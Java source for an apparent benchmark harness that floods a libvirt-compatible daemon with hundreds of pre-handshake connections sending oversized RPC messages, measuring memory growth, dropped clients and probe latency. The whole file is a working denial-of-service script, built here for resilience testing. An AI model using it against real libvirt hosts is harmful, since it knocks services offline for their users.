import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;

/**
 * The memory attack of issue 17, against any libvirt daemon on TCP or a unix socket: N clients
 * connect (no handshake: they never call AUTH_LIST or CONNECT_OPEN), each sends the length word and header
 * of a maximum message (a CALL of CONNECT_GET_LIB_VERSION announcing 32 MiB), then the body
 * in rounds of --chunk bytes per client, up to --body bytes. After every round a probe command
 * (a stock virsh) must answer. Meanwhile the daemon's RSS is sampled every 50 ms; with
 * --max-rss-mib the daemon is killed (SIGKILL) if it grows past that, so no run can take the
 * machine's memory. Optionally a --during command (a legitimate client) runs in parallel from
 * round 2, and --metrics URL is scraped at the end. With --open URI every client first opens a
 * connection (CONNECT_OPEN, as a local user of the read-only socket could), so the daemon sees
 * it as a handshaken client.
 *
 * <pre>
 * java bench/attack/Attack.java --addr 127.0.0.1:16509|unix:PATH --pid PID --clients 400 \
 *     --body 25m --chunk 1m --probe 'virsh -c test+tcp://127.0.0.1:16509/default version' \
 *     [--during 'sh legit.sh'] [--metrics http://127.0.0.1:9177/metrics] [--max-rss-mib 6144]
 * </pre>
 *
 * Output: one line per round, then a summary line starting with "RESULT". A client counts as
 * dropped when the daemon closes or resets its connection. Single file, JDK only; run with
 * {@code java Attack.java} (JDK 11+ source launcher). Not part of the daemon or its build.
 */
public final class Attack {

    static final int REMOTE_PROGRAM = 0x20008086;
    static final int PROC_CONNECT_OPEN = 1;
    static final int PROC_CONNECT_GET_LIB_VERSION = 157;
    static final int MAX_LENGTH_WORD = 32 * 1024 * 1024 + 4;

    // options
    String host = "127.0.0.1";
    int port = 16509;
    java.nio.file.Path unixSocket; // --addr unix:PATH
    long pid = -1;
    int clients = 400;
    long body = 25L << 20;
    long chunk = 1L << 20;
    long lengthWord = MAX_LENGTH_WORD;
    String probe;
    String during;
    String metrics;
    String openUri;
    long maxRssKiB = Long.MAX_VALUE;
    double roundTimeout = 2.0;
    int probeTimeout = 20;

    // state
    final long t0 = System.nanoTime();
    final AtomicLong rssKiB = new AtomicLong();
    final AtomicLong peakRssKiB = new AtomicLong();
    volatile boolean targetKilled;
    volatile String killedAt = "";
    long firstDropNanos = -1;
    int dropped;
    int probesOk;
    int probes;
    long probeMaxMillis;

    final class Conn {
        final SocketChannel ch;
        boolean connected;
        boolean opened;
        boolean gone;
        ByteBuffer reply;   // the CONNECT_OPEN reply being read (--open)
        long sent;          // bytes of the message sent (header included)
        long allowance;     // bytes still to send this round
        SelectionKey key;

        Conn(SocketChannel ch) {
            this.ch = ch;
        }
    }

    public static void main(String[] args) throws Exception {
        Attack a = new Attack();
        a.parse(args);
        System.exit(a.run());
    }

    void parse(String[] args) {
        for (int i = 0; i < args.length; i++) {
            String v = i + 1 < args.length ? args[i + 1] : null;
            switch (args[i]) {
                case "--addr" -> {
                    if (v.startsWith("unix:")) {
                        unixSocket = java.nio.file.Path.of(v.substring(5));
                    } else {
                        int c = v.lastIndexOf(':');
                        host = v.substring(0, c);
                        port = Integer.parseInt(v.substring(c + 1));
                    }
                }
                case "--pid" -> pid = Long.parseLong(v);
                case "--clients" -> clients = Integer.parseInt(v);
                case "--body" -> body = size(v);
                case "--chunk" -> chunk = size(v);
                case "--length-word" -> lengthWord = size(v);
                case "--probe" -> probe = v;
                case "--during" -> during = v;
                case "--metrics" -> metrics = v;
                case "--open" -> openUri = v;
                case "--max-rss-mib" -> maxRssKiB = Long.parseLong(v) * 1024;
                case "--round-timeout" -> roundTimeout = Double.parseDouble(v);
                case "--probe-timeout" -> probeTimeout = Integer.parseInt(v);
                default -> throw new IllegalArgumentException("unknown option " + args[i]);
            }
            i++;
        }
        if (body + 28 > lengthWord) {
            body = lengthWord - 28; // never more than the announced message
        }
    }

    static long size(String s) {
        s = s.toLowerCase(Locale.ROOT);
        long mult = 1;
        if (s.endsWith("k")) {
            mult = 1L << 10;
        } else if (s.endsWith("m")) {
            mult = 1L << 20;
        } else if (s.endsWith("g")) {
            mult = 1L << 30;
        }
        if (mult != 1) {
            s = s.substring(0, s.length() - 1);
        }
        return Long.parseLong(s) * mult;
    }

    double secs() {
        return (System.nanoTime() - t0) / 1e9;
    }

    int run() throws Exception {
        startRssSampler();
        System.out.printf(Locale.ROOT, "attack: %d clients, length word %d, body %d bytes in chunks of %d, target %s pid %d%n",
                clients, lengthWord, body, chunk, unixSocket != null ? "unix:" + unixSocket : host + ":" + port, pid);
        Selector sel = Selector.open();
        List<Conn> conns = new ArrayList<>();
        for (int i = 0; i < clients; i++) {
            SocketChannel ch = SocketChannel.open(unixSocket != null ? java.net.StandardProtocolFamily.UNIX
                    : java.net.StandardProtocolFamily.INET);
            ch.configureBlocking(false);
            if (unixSocket == null) {
                ch.setOption(StandardSocketOptions.TCP_NODELAY, true);
            }
            Conn c = new Conn(ch);
            conns.add(c);
            c.connected = ch.connect(unixSocket != null ? java.net.UnixDomainSocketAddress.of(unixSocket)
                    : new InetSocketAddress(host, port));
            c.key = ch.register(sel, c.connected ? SelectionKey.OP_READ : SelectionKey.OP_CONNECT, c);
        }
        // Connect everyone (the daemon's listen backlog may make some wait).
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(30);
        while (countConnected(conns) + countGone(conns) < clients && System.nanoTime() < deadline) {
            pump(sel, 100);
        }
        System.out.printf(Locale.ROOT, "t=%.1fs connected %d of %d (%d failed)%n", secs(), countConnected(conns),
                clients, countGone(conns));
        if (openUri != null) {
            openAll(sel, conns);
        }
        Process legit = null;
        long legitStart = 0;
        long rounds = (28 + body + chunk - 1) / chunk;
        for (int round = 1; round <= rounds && !targetKilled; round++) {
            for (Conn c : conns) {
                if (c.connected && !c.gone) {
                    c.allowance = Math.min(chunk, 28 + body - c.sent);
                    c.key.interestOps(SelectionKey.OP_READ | SelectionKey.OP_WRITE);
                }
            }
            long roundStart = System.nanoTime();
            long roundEnd = roundStart + (long) (roundTimeout * 1e9);
            long sentBefore = totalSent(conns);
            while (pending(conns) > 0 && System.nanoTime() < roundEnd && !targetKilled) {
                pump(sel, 50);
            }
            long blocked = pending(conns);
            for (Conn c : conns) { // what the daemon did not take this round is not offered again
                c.allowance = 0;
                if (!c.gone && c.key.isValid()) {
                    c.key.interestOps(SelectionKey.OP_READ);
                }
            }
            pump(sel, 0);
            if (round == 2 && during != null) {
                legitStart = System.nanoTime();
                legit = new ProcessBuilder("sh", "-c", during).inheritIO().start();
            }
            String probeResult = probe();
            System.out.printf(Locale.ROOT,
                    "t=%.1fs round %d: sent %d MiB (%d MiB pushed back), clients left %d, dropped %d, RSS %d MiB (peak %d), probe %s%n",
                    secs(), round, (totalSent(conns) - sentBefore) >> 20, blocked >> 20, clients - countGone(conns), dropped,
                    rssKiB.get() >> 10, peakRssKiB.get() >> 10, probeResult);
        }
        String legitResult = "not run";
        if (legit != null) {
            boolean done = legit.waitFor(120, TimeUnit.SECONDS);
            legitResult = done ? "exit " + legit.exitValue() + " after "
                    + String.format(Locale.ROOT, "%.1f", (System.nanoTime() - legitStart) / 1e9) + " s" : "still running after 120 s";
            if (!done) {
                legit.destroyForcibly();
            }
        }
        String scraped = scrapeMetrics();
        System.out.printf(Locale.ROOT,
                "RESULT clients=%d connected=%d dropped=%d first_drop_s=%s probes_ok=%d/%d probe_max_ms=%d peak_rss_mib=%d rss_end_mib=%d target_killed=%s legit=%s%n",
                clients, clients - countNeverConnected(conns), dropped,
                firstDropNanos < 0 ? "none" : String.format(Locale.ROOT, "%.2f", (firstDropNanos - t0) / 1e9),
                probesOk, probes, probeMaxMillis, peakRssKiB.get() >> 10, rssKiB.get() >> 10,
                targetKilled ? "yes (" + killedAt + ")" : "no", legitResult.replace(' ', '_'));
        if (!scraped.isEmpty()) {
            System.out.print(scraped);
        }
        for (Conn c : conns) {
            c.ch.close();
        }
        return 0;
    }

    /** One selector turn: connect, write allowances, notice closes. */
    void pump(Selector sel, long millis) throws IOException {
        if (millis == 0) {
            sel.selectNow();
        } else {
            sel.select(millis);
        }
        ByteBuffer junk = JUNK.duplicate();
        for (SelectionKey k : sel.selectedKeys()) {
            Conn c = (Conn) k.attachment();
            try {
                if (k.isValid() && k.isConnectable()) {
                    if (c.ch.finishConnect()) {
                        c.connected = true;
                        k.interestOps(SelectionKey.OP_READ);
                    }
                    continue;
                }
                if (k.isValid() && k.isReadable()) {
                    ByteBuffer in = c.reply != null ? c.reply : ByteBuffer.allocate(4096);
                    if (c.ch.read(in) < 0) {
                        gone(c);
                        continue;
                    }
                    if (c.reply != null && !c.reply.hasRemaining()) {
                        c.opened = c.reply.getInt(24) == 0; // status OK
                        c.reply = null;
                    }
                }
                if (k.isValid() && k.isWritable() && c.allowance > 0) {
                    ByteBuffer out;
                    if (c.sent == 0) {
                        out = ByteBuffer.allocate(28);
                        out.putInt((int) lengthWord).putInt(REMOTE_PROGRAM).putInt(1).putInt(PROC_CONNECT_GET_LIB_VERSION)
                                .putInt(0).putInt(1).putInt(0).flip(); // CALL, serial 1
                    } else {
                        junk.clear().limit((int) Math.min(junk.capacity(), c.allowance));
                        out = junk;
                    }
                    int n = c.ch.write(out);
                    c.sent += n;
                    c.allowance -= n;
                    if (c.allowance <= 0) {
                        k.interestOps(SelectionKey.OP_READ);
                    }
                }
            } catch (IOException e) {
                gone(c);
            }
        }
        sel.selectedKeys().clear();
    }

    static final ByteBuffer JUNK = ByteBuffer.allocateDirect(1 << 20);

    /** --open: CONNECT_OPEN on every connection, then wait for the replies (28 bytes: header, no body). */
    void openAll(Selector sel, List<Conn> conns) throws IOException {
        byte[] uri = openUri.getBytes(java.nio.charset.StandardCharsets.UTF_8);
        int pad = (4 - uri.length % 4) % 4;
        int len = 28 + 4 + 4 + uri.length + pad + 4;
        for (Conn c : conns) {
            if (!c.connected || c.gone) {
                continue;
            }
            ByteBuffer b = ByteBuffer.allocate(len);
            b.putInt(len).putInt(REMOTE_PROGRAM).putInt(1).putInt(PROC_CONNECT_OPEN).putInt(0).putInt(0).putInt(0);
            b.putInt(1).putInt(uri.length).put(uri).put(new byte[pad]).putInt(0).flip();
            c.ch.write(b); // small: the socket takes it at once
            c.reply = ByteBuffer.allocate(28);
        }
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
        while (System.nanoTime() < deadline) {
            int waiting = 0;
            for (Conn c : conns) {
                if (c.reply != null && !c.gone) {
                    waiting++;
                }
            }
            if (waiting == 0) {
                break;
            }
            pump(sel, 100);
        }
        int opened = 0;
        for (Conn c : conns) {
            if (c.opened) {
                opened++;
            }
        }
        System.out.printf(Locale.ROOT, "t=%.1fs opened %d connections to %s%n", secs(), opened, openUri);
    }

    void gone(Conn c) {
        if (c.gone) {
            return;
        }
        boolean wasConnected = c.connected;
        c.gone = true;
        c.key.cancel();
        try {
            c.ch.close();
        } catch (IOException ignored) {
            // gone anyway
        }
        if (wasConnected) {
            dropped++;
            if (firstDropNanos < 0) {
                firstDropNanos = System.nanoTime();
            }
        }
    }

    long pending(List<Conn> conns) {
        long p = 0;
        for (Conn c : conns) {
            if (!c.gone) {
                p += c.allowance;
            }
        }
        return p;
    }

    long totalSent(List<Conn> conns) {
        long s = 0;
        for (Conn c : conns) {
            s += c.sent;
        }
        return s;
    }

    int countConnected(List<Conn> conns) {
        int n = 0;
        for (Conn c : conns) {
            if (c.connected && !c.gone) {
                n++;
            }
        }
        return n;
    }

    int countGone(List<Conn> conns) {
        int n = 0;
        for (Conn c : conns) {
            if (c.gone) {
                n++;
            }
        }
        return n;
    }

    int countNeverConnected(List<Conn> conns) {
        int n = 0;
        for (Conn c : conns) {
            if (!c.connected) {
                n++;
            }
        }
        return n;
    }

    String probe() throws InterruptedException {
        if (probe == null) {
            return "-";
        }
        probes++;
        long start = System.nanoTime();
        try {
            Process p = new ProcessBuilder("sh", "-c", probe).redirectErrorStream(true).start();
            boolean done = p.waitFor(probeTimeout, TimeUnit.SECONDS);
            long ms = (System.nanoTime() - start) / 1_000_000;
            probeMaxMillis = Math.max(probeMaxMillis, ms);
            if (!done) {
                p.destroyForcibly();
                return "TIMEOUT after " + ms + " ms";
            }
            String out = new String(p.getInputStream().readAllBytes()).trim().replace('\n', ' ');
            if (p.exitValue() == 0) {
                probesOk++;
                return "ok " + ms + " ms";
            }
            return "FAILED " + ms + " ms: " + (out.length() > 120 ? out.substring(0, 120) : out);
        } catch (IOException e) {
            return "FAILED: " + e.getMessage();
        }
    }

    String scrapeMetrics() {
        if (metrics == null) {
            return "";
        }
        try {
            HttpResponse<String> r = HttpClient.newHttpClient().send(
                    HttpRequest.newBuilder(URI.create(metrics)).timeout(Duration.ofSeconds(10)).build(),
                    HttpResponse.BodyHandlers.ofString());
            StringBuilder sb = new StringBuilder();
            for (String line : r.body().split("\n")) {
                if (line.startsWith("jvirtd_client_memory") || line.startsWith("jvirtd_clients_accepted_total")) {
                    sb.append("  ").append(line).append('\n');
                }
            }
            return sb.toString();
        } catch (IOException | InterruptedException | RuntimeException e) {
            return "  metrics: " + e + "\n";
        }
    }

    void startRssSampler() {
        if (pid < 0) {
            return;
        }
        Thread t = new Thread(() -> {
            Path status = Path.of("/proc", Long.toString(pid), "status");
            while (true) {
                try {
                    for (String line : Files.readAllLines(status)) {
                        if (line.startsWith("VmRSS:")) {
                            long kib = Long.parseLong(line.replaceAll("[^0-9]", ""));
                            rssKiB.set(kib);
                            peakRssKiB.accumulateAndGet(kib, Math::max);
                            if (kib > maxRssKiB && !targetKilled) {
                                killedAt = String.format(Locale.ROOT, "%.1fs_rss_%dMiB", secs(), kib >> 10);
                                targetKilled = true;
                                ProcessHandle.of(pid).ifPresent(ProcessHandle::destroyForcibly);
                            }
                        }
                    }
                    Thread.sleep(50);
                } catch (IOException e) {
                    return; // the process is gone
                } catch (InterruptedException e) {
                    return;
                }
            }
        }, "rss-sampler");
        t.setDaemon(true);
        t.start();
    }
}
